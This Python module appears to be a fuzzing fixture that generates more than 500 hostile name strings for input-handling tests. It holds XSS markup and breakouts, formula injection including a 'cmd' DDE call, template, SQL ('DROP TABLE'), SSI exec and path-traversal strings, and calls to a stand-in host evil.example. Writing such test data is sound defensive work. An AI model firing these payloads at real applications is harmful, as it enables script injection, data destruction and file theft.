"""Texts that strangers put into names: markup, script, formulas, template and query syntax, direction marks, length."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

CALLS = ("alert(1)", "confirm`1`", "window.pwned=1", "document.title='pwned'", "fetch('//evil.example')", "print()")
MARKUP = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js>{}</SCRIPT>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<a href=javascript:{}>x</a>",
    "<style>@import'//evil.example';</style>{}",
    "<base href=//evil.example/>{}",
    "<meta http-equiv=refresh content=0;url=javascript:{}>",
    "<template><script>{}</script></template>",
    "<div data-hx-get=//evil.example data-hx-trigger=load>{}</div>",
    "<button data-hx-on:click={}>x</button>",
)
BREAKS = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</script>{}",
    "-->{}",
    "]]>{}",
    "</textarea>{}",
    "\\u003c{}",
    "%3C{}%3E",
    "{{{{{}}}}}",
    "`{}`",
)
SINGLE = (
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd",
    "@SUM(1)",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "${alert(1)}",
    "`${alert(1)}`",
    "'; DROP TABLE entries; --",
    '" onmouseover=alert(1) x="',
    "' onmouseover='alert(1)",
    "\u202egnp.exe\u202c",
    "مرحبا بالعالم",
    "👩‍👩‍👧‍👦🏴‍☠️" * 4,
    "a\u0300" * 60,
    '<!--#exec cmd="id"-->',
    "../../etc/passwd",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "__proto__",
    "constructor",
    "(none)",
    "(the rest)",
    "N" * 10_000,
    "W" * 120,
)


def payloads() -> Iterator[str]:
    """More than 500 of them, the single ones first."""
    yield from SINGLE
    for markup, break_ in itertools.product(MARKUP, BREAKS):
        call = CALLS[(len(markup) + len(break_)) % len(CALLS)]
        for shape in (markup, markup.swapcase(), markup.replace(" ", "/"))[: 3 if break_ in BREAKS[:6] else 2]:
            yield break_.format(shape.replace("{}", call))
